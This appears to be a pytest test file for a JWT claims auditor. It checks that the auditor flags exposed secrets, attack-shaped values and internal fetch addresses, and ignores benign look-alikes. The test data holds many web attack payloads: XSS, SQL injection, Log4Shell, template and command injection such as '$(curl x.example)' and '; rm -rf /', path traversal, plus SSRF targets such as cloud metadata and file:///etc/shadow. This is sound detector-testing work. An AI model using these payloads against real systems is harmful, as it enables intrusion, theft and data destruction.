"""Secrets, attacks and addresses among the values of claims."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest

from tests.jose.audit.asking import finding
from tests.jose.audit.telling import CLEAN, broken, with_claims
from tests.jose.making import encrypted, fresh_key, jwk
from webapp.jose.registry.rules import RULES


@pytest.mark.parametrize(
    "claims",
    [
        {"password": "hunter2"},
        {"user": {"userPassword": "x1"}},
        {"old_password_hash": "$2b$12$abc"},
        {"client_secret": "s3cr3t"},
        {"https://app.example/apiKey": "abc"},
        {"cards": [{"card_number": "4111 1111 1111 1111"}]},
        {"note": "pay with 5500-0000-0000-0004 please"},
        {"profile": {"credit_card": "4111111111111111"}},
        {"x": "378282246310005"},
        {"cvv": 123},
        {"pin": "0420"},
        {"ssn": "123456789"},
        {"tax": "123-45-6789"},
        {"k": "-----BEGIN RSA PRIVATE KEY-----\nMII"},
        {"aws": {"id": "AKIAIOSFODNN7EXAMPLE"}},
        {"hook": "ghp_" + "a" * 36},
        {"pass": "hunter2"},
        {"header": "Basic dXNlcjpwYXNz"},
        {"db": "postgres://app:hunter2@db.example/x"},
        {"refresh_token": "8xLOxBtZp8-abcdefgh"},
        {"cnf": {"jwk": {"kty": "EC", "crv": "P-256", "x": "a", "y": "b", "d": "c"}}},
        {"keys": [{"kty": "oct", "k": "AyM1SysPpbyDfgZld3umj1qzKObwVMkoqQ"}]},
    ],
)
def test_a_secret_that_everybody_can_read_is_told(claims: dict[str, Any]) -> None:
    assert broken(with_claims(**claims)) == {"C08"}


@pytest.mark.parametrize(
    "claims",
    [
        {"pwd_exp": 5_184_000, "pwd_url": "https://login.example/changepw"},
        {"password_changed_at": 1_700_000_000, "passwordLastSet": "2025-01-01", "password": True},
        {"token_type": "Bearer", "at_hash": None, "secretary": "Ann", "amr": ["pwd", "pin"]},
        {"secret_question": "first pet", "api_key_id": "k1", "private_key_id": "abc"},
        {"pin": "yes", "password": "********", "credit_card": "visa", "card": "**** 1111"},
        {"order": "4111111111111112", "user_id": "4111111111111111", "phone": "4111111111111111"},
        {"ts": 1_767_225_600_000_000, "serial": "10154287027510302", "sub": "104423550502665920102"},
        {"id": "123-45-6789", "zip": "12345-6789", "uuid": "123e4567-e89b-12d3-a456-426614174000"},
        {"cnf": {"jwk": {"kty": "EC", "crv": "P-256", "x": "a", "y": "b"}}},
        {"boarding_pass": "A1", "bus_pass": "x", "plan": "Basic access plan", "access_key_id": "x"},
        {"d": "x", "k": "y", "site": "https://app.example/@ann"},
        {"ssn": "", "password": None, "pan": "frying"},
    ],
)
def test_what_only_sounds_like_a_secret_is_none(claims: dict[str, Any]) -> None:
    assert broken(with_claims(**claims)) == set()


def test_a_secret_is_never_repeated() -> None:
    found = finding("C08", with_claims(password="correct horse"))

    assert "horse" not in repr(found)


def test_what_is_encrypted_may_hold_a_secret() -> None:
    key = fresh_key("A128KW")
    paste = encrypted("A128KW", "A128GCM", key, json.dumps({**CLEAN, "password": "x"}).encode())

    assert broken(paste, key=json.dumps(jwk(key))) == set()
    sealed = encrypted("A128KW", "A128GCM", key, with_claims(password="x").encode(), cty="JWT")  # made for the test

    assert broken(sealed, key=json.dumps(jwk(key))) == set()


@pytest.mark.parametrize(
    "value",
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//x.example>",
        "<img src=x onerror=alert(1)>",
        "< svg/onload=alert(1)>",
        '" onmouseover="alert(1)',
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "{{7*7}}",
        "${7*7}",
        "${jndi:ldap://x.example/a}",
        "#{T(java.lang.Runtime)}",
        "<%= 7*7 %>",
        "{% for x in y %}",
        "' OR '1'='1",
        "' or 1=1--",
        "admin'--",
        "admin' #",
        "1; DROP TABLE users",
        "x'; DELETE FROM users; --",
        "1 UNION SELECT password FROM users",
        '" or ""="',
        "1 OR 1=1",
        "'; exec xp_cmdshell('dir')",
        "1' AND SLEEP(5)-- -",
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%2e%2e%2fetc%2fpasswd",
        "/etc/passwd",
        "x\r\nSet-Cookie: a=b",
        "x%0d%0aLocation: https://x.example",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        "$(curl x.example)",
        "; rm -rf /",
        "`id`",
        "*)(uid=*",
        "a\x00b",
        "%3Cscript%3Ealert(1)",
        "' OR TRUE--",
        "1' ORDER BY 3--",
        "'||(SELECT password FROM users)||'",
        "Robert'); DROP TABLE Students;--",
        "ann\r\nInjected: yes",
        "() { :; }; echo x",
        "=cmd|' /C calc'!A0",
        "#set($x = 7)",
        "[[${7*7}]]",
    ],
)
def test_a_value_in_the_shape_of_an_attack_is_told(value: str) -> None:
    assert broken(with_claims(name=value)) == {"C09"}
    assert broken(with_claims(profile_data={"tags": [["ok", value]]})) == {"C09"}


@pytest.mark.parametrize(
    "value",
    [
        "O'Brien",
        "D'Angelo-O'Neill and O'Hara",
        "Rock 'n' Roll",
        "select",
        "Please select one from the list",
        "Drop by the table",
        "Tom & Jerry; Laurel & Hardy",
        "AT&T",
        "2 < 3 and 5 > 4",
        "I <3 you",
        "<alice@example.com>",
        "https://app.example/a/b.html?x=1&y=2#z",
        "read:orders write:orders/* admin.*",
        "patient/*.read launch/patient openid",
        "arn:aws:iam::123456789012:role/Admin",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0",
        "a+b/c==",
        "C++ and C#",
        "one... two",
        "v1..v2",
        "$5 {approx}",
        "JavaScript: The Good Parts",
        "javascript",
        "once=1 online=true",
        "Zoë 😀 日本",
        "Unionville, Ontario",
        "(a)(b)",
        "100%",
        "He said \"no\" and 'yes'",
        "Union of select artists",
        "CN=Alice,OU=Sales,DC=example",
        '{"a": {"b": 1}}',
        "R&D; QA",
        "rock-and-roll or 2 for 1",
        "Order by 3 pm",
        "f() is a function",
        "important + imported",
        "He said 'or not'",
        "=)",
        "https://app.example/select?from=x",
        "Room #4 (set aside)",
        "1 Main St\nSpringfield\nTel: 5",
    ],
)
def test_ordinary_names_and_texts_are_no_attacks(value: str) -> None:
    assert broken(with_claims(name=value)) == set()


def test_an_address_of_several_lines_is_one_and_a_subject_of_several_lines_is_none() -> None:
    assert broken(with_claims(address={"formatted": "1 Main St\r\nSpringfield"})) == set()
    assert broken(with_claims(sub="alice\nadmin")) == {"C09"}


def test_operators_of_databases_as_names_are_told() -> None:
    assert broken(with_claims(role={"$ne": "x"})) == {"C09"}
    assert broken(with_claims(**{"<script>": 1})) == {"C09"}
    assert broken(with_claims(**{"http://x.example/a/b": 1, "https://x.example/c#d": 2})) == set()
    assert broken(with_claims(schema={"$ref": "#/x", "$schema": "y"})) == set()


@pytest.mark.parametrize(
    "claims",
    [
        {"picture": "https://169.254.169.254/latest/meta-data"},
        {"picture": "http://cdn.example/a.png"},
        {"webhook_url": "https://10.0.0.7/hook"},
        {"x": {"y": ["https://[::1]/"]}},
        {"jwks_uri": "http://keys.example/jwks"},
        {"logoUri": "ftp://files.example/a"},
        {"website": "https://2130706433/"},
        {"data": "file:///home/x"} | {"image": "gopher://a.example/x"},
    ],
)
def test_an_address_that_must_not_be_fetched_is_told(claims: dict[str, Any]) -> None:
    assert broken(with_claims(**claims)) == {"C10"}


@pytest.mark.parametrize(
    "claims",
    [
        {"picture": "https://cdn.example/a.png", "profile": "https://app.example/ann"},
        {"iss": "http://localhost:8080/realms/x", "aud": "http://localhost:3000"},
        {"http://schemas.microsoft.com/ws/2008/06/identity/claims/role": "Admin"},
        {"role_type": "http://schemas.microsoft.com/identity/role"},
        {"@context": ["http://www.w3.org/2018/credentials/v1"], "type": "http://x.example/t"},
        {"events_seen": "http://schemas.openid.net/event/backchannel-logout"},
        {"appuri": "ms-app://s-1-15-2-3637394370", "queue": "nats://localhost:4222"},
        {"redirect_uri": "http://localhost:3000/cb", "ipaddr": "10.1.2.3"},
        {"url": "/a/b", "picture": "data:image/png;base64,AAAA", "host": "localhost"},
    ],
)
def test_names_that_look_like_addresses_are_not_fetched(claims: dict[str, Any]) -> None:
    assert broken(with_claims(**claims)) == set()


def test_hostile_values_cost_little() -> None:
    for piece in ("'", "<", "{{", "${", "../", " or ", "4111 ", "://a@", "' ", "\r\n", "on", "a:"):
        paste = with_claims(x=piece * (200_000 // len(piece)), y=[piece] * 1000)
        started = time.process_time()
        broken(paste)

        assert time.process_time() - started < 20, "with a square of its length it takes minutes"


def test_every_rule_about_claims_tells_why_and_what_to_do() -> None:
    for rule in RULES.values():
        if rule.id[0] in "TCOLADFR":
            assert all((rule.why, rule.remedy, rule.example)), rule.id


def test_dot_segments_of_a_web_address_are_taken_out_before_it_is_fetched() -> None:
    assert broken(with_claims(homepage="https://www.example/a/../b")) == set()
    assert broken(with_claims(homepage="https://www.example/<script>")) == {"C09"}
    assert broken(with_claims(document="../../b")) == {"C09"}


def test_the_address_of_a_file_is_told_once() -> None:
    assert broken(with_claims(document="file:///etc/shadow")) == {"C10"}
